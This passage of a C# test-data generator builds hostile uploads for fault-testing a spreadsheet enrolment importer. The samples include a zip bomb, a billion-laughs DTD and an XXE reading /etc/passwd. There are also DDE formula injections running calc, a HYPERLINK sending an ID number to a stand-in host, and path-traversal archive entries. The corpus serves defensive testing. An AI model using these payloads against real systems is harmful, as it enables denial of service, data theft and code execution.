using System.Buffers.Binary;
using System.Globalization;
using System.IO.Compression;
using System.Text;
using System.Xml;
using Jamsostek.TestData.Internal;

namespace Jamsostek.TestData;

/// <summary>
/// Broken or hostile uploads, generated in code (nothing downloaded), deterministic. Each is small on disk
/// (under 1 MB) except <see cref="ZipBomb"/>, whose point is its unpacked size.
/// </summary>
public static class HostileFiles
{
    private static readonly DateOnly CoverageStart = new(2025, 1, 1);
    private static readonly DateOnly CoverageEnd = new(2025, 12, 31);
    private const string Agreement = "PKS/001/BPJS-SBW/2025";
    private static readonly Lazy<byte[]> ZipBombBytes = new(() => BuildZipBomb(DefaultZipBombSize));

    /// <summary>What <see cref="ZipBomb"/> unpacks to: 1 GiB of worksheet XML.</summary>
    public const long DefaultZipBombSize = 1L << 30;

    /// <summary>
    /// A valid-looking .xlsx (content types, relationships, workbook, styles, one worksheet with the enrolment
    /// header and one participant) whose sheet1.xml inflates to <paramref name="uncompressedBytes"/> (default 1 GiB):
    /// after the two rows, whitespace up to the size, then the closing tags, so it is well-formed XML all the way.
    /// About 1 MB on disk, a ratio above 1000:1, and the central directory declares the full size. Generated streaming (the sheet XML never sits
    /// in memory); the default one is built once per process (about 2-3 s) and copied.
    /// </summary>
    public static byte[] ZipBomb(long uncompressedBytes = DefaultZipBombSize) =>
        uncompressedBytes == DefaultZipBombSize ? (byte[])ZipBombBytes.Value.Clone() : BuildZipBomb(uncompressedBytes);

    private static byte[] BuildZipBomb(long target)
    {
        ArgumentOutOfRangeException.ThrowIfLessThan(target, 1024);
        if (target > uint.MaxValue - 1024)
        {
            throw new ArgumentOutOfRangeException(nameof(target), "Keep the bomb under 4 GiB (no Zip64).");
        }

        var head = Encoding.UTF8.GetBytes(
            $"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="{XlsxPackage.MainNs}"><sheetData>"""
            + HeaderRowXml(EnrolmentSheet.Header)
            + """<row r="2"><c r="A2"><v>1</v></c><c r="B2" t="inlineStr"><is><t>5204014501900001</t></is></c></row>""");
        var tail = "</sheetData></worksheet>"u8.ToArray();

        // One repeated byte: deflate codes each 258-byte run at distance 1 in about two bits (ratio ~1000:1);
        // a repeated multi-byte pattern needs distance extra bits and only reaches ~400:1.
        var chunk = new byte[1 << 16];
        Array.Fill(chunk, (byte)' ');

        using var output = new MemoryStream();
        XlsxPackage.Write(output,
        [
            new XlsxSheetEntry("Daftar Peserta", false, stream =>
            {
                stream.Write(head);
                var remaining = target - head.Length - tail.Length;
                while (remaining > 0)
                {
                    var n = (int)Math.Min(chunk.Length, remaining);
                    stream.Write(chunk, 0, n);
                    remaining -= n;
                }

                stream.Write(tail);
            }, CompressionLevel.SmallestSize),
        ]);
        return output.ToArray();
    }

    /// <summary>
    /// An .xlsx whose sheet1.xml declares a DTD with nested entities ("billion laughs": lol9 expands to 10^9
    /// copies of "lol", about 3 GB) and uses <c>&amp;lol9;</c> in a cell. A safe reader refuses the DTD.
    /// </summary>
    public static byte[] BillionLaughs()
    {
        var dtd = new StringBuilder();
        dtd.Append("<!DOCTYPE worksheet [\n  <!ENTITY lol \"lol\">\n");
        for (var level = 1; level <= 9; level++)
        {
            var previous = level == 1 ? "lol" : $"lol{level - 1}";
            dtd.Append(CultureInfo.InvariantCulture, $"  <!ENTITY lol{level} \"{string.Concat(Enumerable.Repeat($"&{previous};", 10))}\">\n");
        }

        dtd.Append("]>\n");
        var xml = $"""
            <?xml version="1.0" encoding="UTF-8" standalone="yes"?>
            {dtd}<worksheet xmlns="{XlsxPackage.MainNs}"><sheetData>{HeaderRowXml(EnrolmentSheet.Header)}<row r="2"><c r="A2"><v>1</v></c><c r="B2" t="inlineStr"><is><t>5204014501900001</t></is></c><c r="C2" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>
            """;
        return RawXlsx(xml);
    }

    /// <summary>
    /// An .xlsx whose sharedStrings.xml declares <c>&lt;!ENTITY x SYSTEM "file:///etc/passwd"&gt;</c> (XXE) and
    /// whose sheet shows <c>&amp;x;</c> as the name of the one participant. A safe reader never resolves it.
    /// </summary>
    public static byte[] ExternalEntity()
    {
        var strings = new List<string>(EnrolmentSheet.Header) { "5204014501900001", "&x;" };
        var sst = new StringBuilder();
        sst.Append("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n");
        sst.Append("<!DOCTYPE sst [\n  <!ENTITY x SYSTEM \"file:///etc/passwd\">\n]>\n");
        sst.Append(CultureInfo.InvariantCulture, $"<sst xmlns=\"{XlsxPackage.MainNs}\" count=\"{strings.Count}\" uniqueCount=\"{strings.Count}\">");
        foreach (var s in strings)
        {
            // The entity reference is written raw; everything else is plain text.
            sst.Append("<si><t>").Append(s == "&x;" ? s : System.Security.SecurityElement.Escape(s)).Append("</t></si>");
        }

        sst.Append("</sst>");

        var sheet = new StringBuilder();
        sheet.Append(CultureInfo.InvariantCulture, $"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><worksheet xmlns=\"{XlsxPackage.MainNs}\"><sheetData><row r=\"1\">");
        for (var i = 0; i < EnrolmentSheet.Header.Count; i++)
        {
            sheet.Append(CultureInfo.InvariantCulture, $"<c r=\"{CellAddress.Cell(i, 1)}\" t=\"s\"><v>{i}</v></c>");
        }

        var n = EnrolmentSheet.Header.Count;
        sheet.Append(CultureInfo.InvariantCulture, $"</row><row r=\"2\"><c r=\"A2\"><v>1</v></c><c r=\"B2\" t=\"s\"><v>{n}</v></c><c r=\"C2\" t=\"s\"><v>{n + 1}</v></c></row></sheetData></worksheet>");
        return RawXlsx(sheet.ToString(), sst.ToString());
    }

    /// <summary>
    /// A password-protected workbook as Excel saves one: an OLE compound file (magic D0 CF 11 E0 A1 B1 1A E1)
    /// holding an "EncryptionInfo" stream (agile encryption, version 4.4, AES-256/SHA-512 descriptor with random
    /// salts and keys) and an "EncryptedPackage" stream (size prefix + random ciphertext). No password opens it.
    /// </summary>
    public static byte[] EncryptedWorkbook()
    {
        var random = new Random(4242);
        string B64(int n)
        {
            var bytes = new byte[n];
            random.NextBytes(bytes);
            return Convert.ToBase64String(bytes);
        }

        var descriptor =
            "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\r\n" +
            "<encryption xmlns=\"http://schemas.microsoft.com/office/2006/encryption\" xmlns:p=\"http://schemas.microsoft.com/office/2006/keyEncryptor/password\" xmlns:c=\"http://schemas.microsoft.com/office/2006/keyEncryptor/certificate\">" +
            $"<keyData saltSize=\"16\" blockSize=\"16\" keyBits=\"256\" hashSize=\"64\" cipherAlgorithm=\"AES\" cipherChaining=\"ChainingModeCBC\" hashAlgorithm=\"SHA512\" saltValue=\"{B64(16)}\"/>" +
            $"<dataIntegrity encryptedHmacKey=\"{B64(64)}\" encryptedHmacValue=\"{B64(64)}\"/>" +
            "<keyEncryptors><keyEncryptor uri=\"http://schemas.microsoft.com/office/2006/keyEncryptor/password\">" +
            $"<p:encryptedKey spinCount=\"100000\" saltSize=\"16\" blockSize=\"16\" keyBits=\"256\" hashSize=\"64\" cipherAlgorithm=\"AES\" cipherChaining=\"ChainingModeCBC\" hashAlgorithm=\"SHA512\" saltValue=\"{B64(16)}\" encryptedVerifierHashInput=\"{B64(16)}\" encryptedVerifierHashValue=\"{B64(64)}\" encryptedKeyValue=\"{B64(32)}\"/>" +
            "</keyEncryptor></keyEncryptors></encryption>";
        var descriptorBytes = Encoding.UTF8.GetBytes(descriptor);
        var info = new byte[8 + descriptorBytes.Length];
        BinaryPrimitives.WriteUInt16LittleEndian(info, 4); // major version: agile
        BinaryPrimitives.WriteUInt16LittleEndian(info.AsSpan(2), 4); // minor version
        BinaryPrimitives.WriteUInt32LittleEndian(info.AsSpan(4), 0x40); // flags: fAgile
        descriptorBytes.CopyTo(info, 8);

        const int plainSize = 9000; // the "decrypted" package size; segments of 4096 padded to 16-byte blocks
        var cipherSize = (plainSize / 4096 * 4096) + ((plainSize % 4096 + 15) / 16 * 16);
        var package = new byte[8 + cipherSize];
        BinaryPrimitives.WriteUInt64LittleEndian(package, plainSize);
        random.NextBytes(package.AsSpan(8));

        return CompoundFile.Build([("EncryptionInfo", info), ("EncryptedPackage", package)]);
    }

    /// <summary>A real enrolment .xlsx (title, header, 200 rows) cut in half: the zip's central directory is gone.</summary>
    public static byte[] TruncatedXlsx()
    {
        var whole = SpreadsheetWriter.XlsxBytes(EnrolmentSheet.Sheet(200, "5204", Agreement, CoverageStart, CoverageEnd, seed: 7,
            titleLines: EnrolmentSheet.Title("5204", 2025)));
        return whole[..(whole.Length / 2)];
    }

    /// <summary>An empty file.</summary>
    public static byte[] ZeroBytes() => [];

    /// <summary>A small, valid one-page PDF ("%PDF-1.4 ...") to upload under an .xlsx or .csv name.</summary>
    public static byte[] PdfRenamed()
    {
        const string content = "BT /F1 18 Tf 72 720 Td (DAFTAR PESERTA BPU KABUPATEN SUMBAWA TAHUN 2025) Tj ET";
        string[] objects =
        [
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
            $"<< /Length {content.Length} >>\nstream\n{content}\nendstream",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ];
        var pdf = new StringBuilder("%PDF-1.4\n%\u00E2\u00E3\u00CF\u00D3\n");
        var offsets = new List<int>();
        for (var i = 0; i < objects.Length; i++)
        {
            offsets.Add(Encoding.Latin1.GetByteCount(pdf.ToString()));
            pdf.Append(CultureInfo.InvariantCulture, $"{i + 1} 0 obj\n{objects[i]}\nendobj\n");
        }

        var xref = Encoding.Latin1.GetByteCount(pdf.ToString());
        pdf.Append(CultureInfo.InvariantCulture, $"xref\n0 {objects.Length + 1}\n0000000000 65535 f \n");
        foreach (var offset in offsets)
        {
            pdf.Append(CultureInfo.InvariantCulture, $"{offset:0000000000} 00000 n \n");
        }

        pdf.Append(CultureInfo.InvariantCulture, $"trailer\n<< /Size {objects.Length + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n");
        return Encoding.Latin1.GetBytes(pdf.ToString());
    }

    /// <summary>A valid 16x16 PNG image (a photo of a form, say) to upload under a spreadsheet name.</summary>
    public static byte[] PngRenamed()
    {
        const int size = 16;
        using var png = new MemoryStream();
        png.Write([0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A]);

        var ihdr = new byte[13];
        BinaryPrimitives.WriteUInt32BigEndian(ihdr, size);
        BinaryPrimitives.WriteUInt32BigEndian(ihdr.AsSpan(4), size);
        ihdr[8] = 8; // bit depth
        ihdr[9] = 2; // truecolour RGB
        WriteChunk(png, "IHDR", ihdr);

        var raw = new byte[size * (1 + size * 3)];
        for (var y = 0; y < size; y++)
        {
            var line = y * (1 + size * 3);
            raw[line] = 0; // filter: none
            for (var x = 0; x < size; x++)
            {
                raw[line + 1 + x * 3] = (byte)(x * 16);
                raw[line + 2 + x * 3] = (byte)(y * 16);
                raw[line + 3 + x * 3] = 0x80;
            }
        }

        using var compressed = new MemoryStream();
        using (var zlib = new ZLibStream(compressed, CompressionLevel.Optimal, leaveOpen: true))
        {
            zlib.Write(raw);
        }

        WriteChunk(png, "IDAT", compressed.ToArray());
        WriteChunk(png, "IEND", []);
        return png.ToArray();

        static void WriteChunk(Stream stream, string type, byte[] data)
        {
            Span<byte> length = stackalloc byte[4];
            BinaryPrimitives.WriteUInt32BigEndian(length, (uint)data.Length);
            stream.Write(length);
            var typeBytes = Encoding.ASCII.GetBytes(type);
            stream.Write(typeBytes);
            stream.Write(data);
            Span<byte> crcBytes = stackalloc byte[4];
            BinaryPrimitives.WriteUInt32BigEndian(crcBytes, Crc32([.. typeBytes, .. data]));
            stream.Write(crcBytes);
        }
    }

    /// <summary>A valid zip that is a Word document (.docx-like: [Content_Types].xml, _rels/.rels, word/document.xml), not a workbook.</summary>
    public static byte[] NotAWorkbookZip()
    {
        using var output = new MemoryStream();
        using (var zip = new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
            Add(zip, "[Content_Types].xml",
                """<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>""");
            Add(zip, "_rels/.rels",
                """<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>""");
            Add(zip, "word/document.xml",
                """<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>PERJANJIAN KERJA SAMA ANTARA PEMERINTAH KABUPATEN SUMBAWA DAN BPJS KETENAGAKERJAAN</w:t></w:r></w:p><w:p><w:r><w:t>Nomor PKS: PKS/001/BPJS-SBW/2025</w:t></w:r></w:p></w:body></w:document>""");
        }

        return output.ToArray();

        static void Add(ZipArchive zip, string name, string text)
        {
            var entry = zip.CreateEntry(name);
            entry.LastWriteTime = new DateTimeOffset(2025, 1, 1, 0, 0, 0, TimeSpan.Zero);
            using var stream = entry.Open();
            stream.Write(Encoding.UTF8.GetBytes(text));
        }
    }

    /// <summary>
    /// An .xlsx whose header row has <paramref name="columns"/> columns: the 15 enrolment headers, then
    /// "Kolom 16", "Kolom 17", ...; one data row below fills the enrolment columns.
    /// </summary>
    public static byte[] TooManyColumns(int columns = 2000)
    {
        ArgumentOutOfRangeException.ThrowIfLessThan(columns, EnrolmentSheet.Header.Count);
        ArgumentOutOfRangeException.ThrowIfGreaterThan(columns, CellAddress.MaxColumns);
        var header = new object?[columns];
        for (var i = 0; i < columns; i++)
        {
            header[i] = i < EnrolmentSheet.Header.Count ? EnrolmentSheet.Header[i] : $"Kolom {i + 1}";
        }

        var data = EnrolmentSheet.Rows(1, "5204", Agreement, CoverageStart, CoverageEnd).First();
        return SpreadsheetWriter.XlsxBytes(new SheetSpec("Daftar Peserta", [header, data]));
    }

    /// <summary>How many formatted (filled) empty rows <see cref="MillionEmptyRows"/> has after its data.</summary>
    public const int FormattedEmptyRows = 100_000;

    /// <summary>
    /// An .xlsx as left by someone who formatted far too much: dimension <c>A1:O1000000</c>, the enrolment header,
    /// 3 data rows, then <see cref="FormattedEmptyRows"/> empty rows with a fill style (rows 5 onwards,
    /// <c>&lt;row r="n" s="3" customFormat="1"/&gt;</c>), then row 1,000,000 holding one cell (A1000000, styled,
    /// no value). Only 3 rows hold data. Generated streaming.
    /// </summary>
    public static byte[] MillionEmptyRows()
    {
        const int lastRow = 1_000_000;
        var rows = EnrolmentSheet.Rows(3, "5204", Agreement, CoverageStart, CoverageEnd, seed: 3).ToList();
        using var output = new MemoryStream();
        XlsxPackage.Write(output,
        [
            new XlsxSheetEntry("Daftar Peserta", false, stream =>
            {
                using var xml = XmlWriter.Create(stream, new XmlWriterSettings { Encoding = new UTF8Encoding(false), CloseOutput = false });
                xml.WriteStartDocument(true);
                xml.WriteStartElement("worksheet", XlsxPackage.MainNs);
                xml.WriteStartElement("dimension", XlsxPackage.MainNs);
                xml.WriteAttributeString("ref", $"A1:{CellAddress.Column(EnrolmentSheet.Header.Count - 1)}{lastRow}");
                xml.WriteEndElement();
                xml.WriteStartElement("sheetData", XlsxPackage.MainNs);
                WriteRawRow(xml, 1, [.. EnrolmentSheet.Header]);
                for (var i = 0; i < rows.Count; i++)
                {
                    WriteRawRow(xml, i + 2, rows[i]);
                }

                var style = XlsxPackage.StyleHighlight.ToString(CultureInfo.InvariantCulture);
                for (var r = rows.Count + 2; r < rows.Count + 2 + FormattedEmptyRows; r++)
                {
                    xml.WriteStartElement("row", XlsxPackage.MainNs);
                    xml.WriteAttributeString("r", r.ToString(CultureInfo.InvariantCulture));
                    xml.WriteAttributeString("s", style);
                    xml.WriteAttributeString("customFormat", "1");
                    xml.WriteEndElement();
                }

                xml.WriteStartElement("row", XlsxPackage.MainNs);
                xml.WriteAttributeString("r", lastRow.ToString(CultureInfo.InvariantCulture));
                xml.WriteStartElement("c", XlsxPackage.MainNs);
                xml.WriteAttributeString("r", CellAddress.Cell(0, lastRow));
                xml.WriteAttributeString("s", style);
                xml.WriteEndElement();
                xml.WriteEndElement();

                xml.WriteEndElement(); // sheetData
                xml.WriteEndElement(); // worksheet
                xml.WriteEndDocument();
            }),
        ]);
        return output.ToArray();
    }

    /// <summary>Rows before and after the empty run of <see cref="RowsAfterEmptyRunXlsx"/> and its kin; the run's length.</summary>
    public const int RowsAroundEmptyRun = 10;

    public const int EmptyRunLength = 12_000;

    /// <summary>
    /// An enrolment .xlsx with <see cref="RowsAroundEmptyRun"/> rows, then <see cref="EmptyRunLength"/> empty rows of
    /// the given kind, then <see cref="RowsAroundEmptyRun"/> more rows (header on row 1, so the last data row is
    /// 2 + 2 x 10 + 12,000 - 1 = 12,021). What Excel leaves after a whole column is formatted, or rows cleared.
    /// </summary>
    public static byte[] RowsAfterEmptyRunXlsx(EmptyRowKind kind)
    {
        var rows = EnrolmentSheet.Rows(2 * RowsAroundEmptyRun, "5204", Agreement, CoverageStart, CoverageEnd, seed: 12).ToList();
        using var output = new MemoryStream();
        XlsxPackage.Write(output,
        [
            new XlsxSheetEntry("Daftar Peserta", false, stream =>
            {
                using var xml = XmlWriter.Create(stream, new XmlWriterSettings { Encoding = new UTF8Encoding(false), CloseOutput = false });
                xml.WriteStartDocument(true);
                xml.WriteStartElement("worksheet", XlsxPackage.MainNs);
                xml.WriteStartElement("sheetData", XlsxPackage.MainNs);
                WriteRawRow(xml, 1, [.. EnrolmentSheet.Header]);
                var rowNumber = 2;
                foreach (var row in rows.Take(RowsAroundEmptyRun))
                {
                    WriteRawRow(xml, rowNumber++, row);
                }
                for (var i = 0; i < EmptyRunLength; i++, rowNumber++)
                {
                    switch (kind)
                    {
                        case EmptyRowKind.Styled:
                            xml.WriteStartElement("row", XlsxPackage.MainNs);
                            xml.WriteAttributeString("r", rowNumber.ToString(CultureInfo.InvariantCulture));
                            xml.WriteAttributeString("s", XlsxPackage.StyleHighlight.ToString(CultureInfo.InvariantCulture));
                            xml.WriteAttributeString("customFormat", "1");
                            xml.WriteEndElement();
                            break;
                        case EmptyRowKind.EmptyStrings:
                            WriteRawRow(xml, rowNumber, [.. Enumerable.Repeat<object?>("", EnrolmentSheet.Header.Count)]);
                            break;
                        default:
                            break; // absent: no row element at all, the row numbers jump
                    }
                }
                foreach (var row in rows.Skip(RowsAroundEmptyRun))
                {
                    WriteRawRow(xml, rowNumber++, row);
                }
                xml.WriteEndElement(); // sheetData
                xml.WriteEndElement(); // worksheet
                xml.WriteEndDocument();
            }),
        ]);
        return output.ToArray();
    }

    /// <summary>The same sheet as <see cref="RowsAfterEmptyRunXlsx"/>, as rows for <see cref="SpreadsheetWriter"/> (.xls, .csv):
    /// absent rows are empty row arrays, empty-text rows hold <paramref name="emptyText"/> in every column (a legacy .xls
    /// stores "" as no cell at all, so a test of empty text there uses a space).</summary>
    public static IEnumerable<object?[]> RowsAfterEmptyRun(EmptyRowKind kind, string emptyText = "")
    {
        var rows = EnrolmentSheet.Rows(2 * RowsAroundEmptyRun, "5204", Agreement, CoverageStart, CoverageEnd, seed: 12).ToList();
        yield return EnrolmentSheet.HeaderRow();
        foreach (var row in rows.Take(RowsAroundEmptyRun))
        {
            yield return row;
        }
        for (var i = 0; i < EmptyRunLength; i++)
        {
            yield return kind == EmptyRowKind.EmptyStrings ? [.. Enumerable.Repeat<object?>(emptyText, EnrolmentSheet.Header.Count)] : [];
        }
        foreach (var row in rows.Skip(RowsAroundEmptyRun))
        {
            yield return row;
        }
    }

    /// <summary>64 KiB of seeded random bytes, about one in eight a NUL, to upload as a .csv.</summary>
    public static byte[] BinaryGarbageCsv()
    {
        var random = new Random(0xC5F);
        var bytes = new byte[64 * 1024];
        random.NextBytes(bytes);
        for (var i = 0; i < bytes.Length; i += 1 + random.Next(15))
        {
            bytes[i] = 0;
        }

        return bytes;
    }

    /// <summary>The names with accented letters that <see cref="Windows1252Csv"/> carries (rows 1-4).</summary>
    public static IReadOnlyList<string> Windows1252Names { get; } = ["Sitï Aminah", "Andréas Wea", "Maria Goretti Dhaé", "Nurhayatï"];

    /// <summary>
    /// A valid enrolment CSV (header + 20 rows, <c>;</c>-separated, CRLF, dates dd/MM/yyyy, no BOM) encoded in
    /// Windows-1252, as Excel "CSV" saves on an Indonesian Windows; the first rows' names
    /// (<see cref="Windows1252Names"/>) hold ï and é as single bytes (0xEF, 0xE9), which are not valid UTF-8.
    /// </summary>
    public static byte[] Windows1252Csv()
    {
        var rows = EnrolmentSheet.Rows(20, "5204", Agreement, CoverageStart, CoverageEnd, seed: 1252).ToList();
        for (var i = 0; i < Windows1252Names.Count; i++)
        {
            rows[i][EnrolmentSheet.Columns.FullName] = Windows1252Names[i];
        }

        return SpreadsheetWriter.CsvBytes(EnrolmentSheet.WithHeader(rows), ';', SpreadsheetWriter.Windows1252);
    }

    /// <summary>The cells <see cref="FormulaInjectionCsv"/> plants, by (data row index, column index).</summary>
    public static IReadOnlyList<(int Row, int Column, string Value)> FormulaInjectionCells { get; } =
    [
        (0, EnrolmentSheet.Columns.FullName, "=HYPERLINK(\"http://contoh.invalid/?nik=\"&B2,\"Klik di sini\")"),
        (1, EnrolmentSheet.Columns.Address, "+62-21-5550-1234+cmd|' /C calc'!A0"),
        (2, EnrolmentSheet.Columns.Phone, "-2+3+cmd|' /C notepad'!A0"),
        (3, EnrolmentSheet.Columns.Occupation, "@SUM(1+1)*cmd|' /C calc'!A0"),
        (4, EnrolmentSheet.Columns.FullName, "=1+1"),
        (5, EnrolmentSheet.Columns.Village, "=cmd|' /C calc'!A0"),
    ];

    /// <summary>
    /// An enrolment CSV (UTF-8, <c>,</c>, header + 8 rows) whose cells in <see cref="FormulaInjectionCells"/> start
    /// with <c>=</c>, <c>+</c>, <c>-</c> or <c>@</c>: a spreadsheet opening an export of them would run formulas.
    /// </summary>
    public static byte[] FormulaInjectionCsv()
    {
        var rows = EnrolmentSheet.Rows(8, "5204", Agreement, CoverageStart, CoverageEnd, seed: 61).ToList();
        foreach (var (row, column, value) in FormulaInjectionCells)
        {
            rows[row][column] = value;
        }

        return SpreadsheetWriter.CsvBytes(EnrolmentSheet.WithHeader(rows));
    }

    /// <summary>Every hostile file with a file name an office might upload it under.</summary>
    public static IEnumerable<(string FileName, Func<byte[]> Content)> All() =>
    [
        ("zip-bomb.xlsx", () => ZipBomb()),
        ("billion-laughs.xlsx", BillionLaughs),
        ("external-entity.xlsx", ExternalEntity),
        ("encrypted.xlsx", EncryptedWorkbook),
        ("truncated.xlsx", TruncatedXlsx),
        ("empty.xlsx", ZeroBytes),
        ("pdf-renamed.xlsx", PdfRenamed),
        ("png-renamed.xlsx", PngRenamed),
        ("docx-renamed.xlsx", NotAWorkbookZip),
        ("too-many-columns.xlsx", () => TooManyColumns()),
        ("million-empty-rows.xlsx", MillionEmptyRows),
        ("binary-garbage.csv", BinaryGarbageCsv),
        ("windows-1252.csv", Windows1252Csv),
        ("formula-injection.csv", FormulaInjectionCsv),
    ];

    /// <summary>
    /// Every file of <see cref="All"/>, then more of the same family: archive entry names with path tricks, a very
    /// long and a unicode entry name, files without rows or header, broken headers, mixed encodings, formula cells in
    /// a workbook, and valid sheets uploaded under file names with path tricks (an encoded <c>../</c>, look-alike
    /// slashes, 1,014 characters (the longest blob name after the region folder), right-to-left override). A literal <c>..\</c> is not among them: storage turns
    /// <c>\</c> into <c>/</c>, and a blob name with <c>..</c> segments cannot be read back through a URL at all.
    /// The corpus the fault tests upload.
    /// </summary>
    public static IEnumerable<(string FileName, Func<byte[]> Content)> Corpus() =>
    [
        .. All(),
        ("entry-dot-dot.xlsx", () => WithExtraEntry("../../../tmp/jamsostek-escaped.txt")),
        ("entry-absolute.xlsx", () => WithExtraEntry("/etc/cron.d/jamsostek")),
        ("entry-backslash.xlsx", () => WithExtraEntry("..\\..\\Windows\\jamsostek.bat")),
        ("entry-drive.xlsx", () => WithExtraEntry("C:/Users/Public/jamsostek.txt")),
        ("entry-long-name.xlsx", () => WithExtraEntry("xl/media/" + new string('a', 4000) + ".png")),
        ("entry-unicode-name.xlsx", () => WithExtraEntry("xl/media/foto-\u00F1-\u6F22\u5B57-\u202Egnp.exe")),
        ("empty-zip.xlsx", EmptyZip),
        ("header-only.xlsx", HeaderOnlyXlsx),
        ("no-header.csv", NoHeaderCsv),
        ("missing-nik-column.csv", MissingNikColumnCsv),
        ("duplicate-nik-column.csv", DuplicateNikColumnCsv),
        ("gzip-renamed.csv", GzipRenamedCsv),
        ("mixed-encodings.csv", MixedEncodingsCsv),
        ("formula-cells.xlsx", FormulaCellsXlsx),
        ("shared-string-amplification.xlsx", () => SharedStringAmplification()),
        ("xls-loop-in-sector-chain.xls", MalformedXls.LoopInSectorChain),
        ("xls-truncated-fat.xls", MalformedXls.TruncatedFat),
        ("xls-cut-in-half.xls", MalformedXls.CutInHalf),
        ("xls-huge-declared-record.xls", MalformedXls.HugeDeclaredRecord),
        ("xls-sst-huge-count.xls", MalformedXls.SharedStringTableWithAHugeCount),
        ("..\u2215..\u2215Windows\u2215peserta.csv", () => ValidCsv(seed: 901)),
        ("%2e%2e%2f%2e%2e%2fpeserta.csv", () => ValidCsv(seed: 902)),
        (new string('p', 1010) + ".csv", () => ValidCsv(seed: 903)),
        ("peserta-\u00F1-\u6F22\u5B57-\u202Evsc.exe.csv", () => ValidCsv(seed: 904)),
    ];

    /// <summary>The characters of the one shared string <see cref="SharedStringAmplification"/> refers to.</summary>
    public const int AmplifiedStringLength = 30_000;

    /// <summary>
    /// A small .xlsx (about 200 KB, packed about 20:1, so no zip-bomb check stops it) whose sharedStrings.xml holds
    /// one string of <see cref="AmplifiedStringLength"/> random letters, referenced by every cell of
    /// <paramref name="rows"/> data rows below the enrolment header: read naively, each row is about 450 KB of text
    /// and the whole sheet gigabytes.
    /// </summary>
    public static byte[] SharedStringAmplification(int rows = 5_000)
    {
        var random = new Random(77);
        var text = string.Create(AmplifiedStringLength, random, (span, r) =>
        {
            for (var i = 0; i < span.Length; i++)
            {
                span[i] = (char)('a' + r.Next(26));
            }
        });
        var sst = $"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><sst xmlns=\"{XlsxPackage.MainNs}\" count=\"1\" uniqueCount=\"1\"><si><t>{text}</t></si></sst>";
        var sheet = new StringBuilder();
        sheet.Append(CultureInfo.InvariantCulture, $"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><worksheet xmlns=\"{XlsxPackage.MainNs}\"><sheetData>");
        sheet.Append(HeaderRowXml(EnrolmentSheet.Header));
        for (var r = 2; r < rows + 2; r++)
        {
            sheet.Append(CultureInfo.InvariantCulture, $"<row r=\"{r}\">");
            for (var c = 0; c < EnrolmentSheet.Header.Count; c++)
            {
                sheet.Append(CultureInfo.InvariantCulture, $"<c r=\"{CellAddress.Cell(c, r)}\" t=\"s\"><v>0</v></c>");
            }
            sheet.Append("</row>");
        }
        sheet.Append("</sheetData></worksheet>");
        return RawXlsx(sheet.ToString(), sst);
    }

    /// <summary>A valid enrolment .xlsx (header + 5 rows) with one more archive entry named <paramref name="entryName"/>.</summary>
    public static byte[] WithExtraEntry(string entryName)
    {
        var workbook = SpreadsheetWriter.XlsxBytes(EnrolmentSheet.Sheet(5, "5204", Agreement, CoverageStart, CoverageEnd, seed: 33));
        using var output = new MemoryStream();
        output.Write(workbook);
        using (var zip = new ZipArchive(output, ZipArchiveMode.Update, leaveOpen: true))
        {
            var entry = zip.CreateEntry(entryName);
            entry.LastWriteTime = new DateTimeOffset(2025, 1, 1, 0, 0, 0, TimeSpan.Zero);
            using var stream = entry.Open();
            stream.Write("jamsostek"u8);
        }

        return output.ToArray();
    }

    /// <summary>A zip archive with no entries at all.</summary>
    public static byte[] EmptyZip()
    {
        using var output = new MemoryStream();
        using (new ZipArchive(output, ZipArchiveMode.Create, leaveOpen: true))
        {
        }

        return output.ToArray();
    }

    /// <summary>An enrolment .xlsx with its header and not one row below it.</summary>
    public static byte[] HeaderOnlyXlsx() => SpreadsheetWriter.XlsxBytes(new SheetSpec("Daftar Peserta", [EnrolmentSheet.HeaderRow()]));

    /// <summary>Forty rows of data and no header row anywhere.</summary>
    public static byte[] NoHeaderCsv() => SpreadsheetWriter.CsvBytes(EnrolmentSheet.Rows(40, "5204", Agreement, CoverageStart, CoverageEnd, seed: 41));

    /// <summary>An enrolment CSV whose NIK column is gone (header and cells).</summary>
    public static byte[] MissingNikColumnCsv() => SpreadsheetWriter.CsvBytes(
        EnrolmentSheet.WithHeader(EnrolmentSheet.Rows(10, "5204", Agreement, CoverageStart, CoverageEnd, seed: 42))
            .Select(row => row.Where((_, i) => i != EnrolmentSheet.Columns.Nik).ToArray()));

    /// <summary>An enrolment CSV with a second NIK column ("No KTP") at the end.</summary>
    public static byte[] DuplicateNikColumnCsv() => SpreadsheetWriter.CsvBytes(
        EnrolmentSheet.WithHeader(EnrolmentSheet.Rows(10, "5204", Agreement, CoverageStart, CoverageEnd, seed: 43))
            .Select((row, i) => (object?[])[.. row, i == 0 ? "No KTP" : row[EnrolmentSheet.Columns.Nik]]));

    /// <summary>A valid enrolment CSV, gzip-compressed, uploaded under its .csv name.</summary>
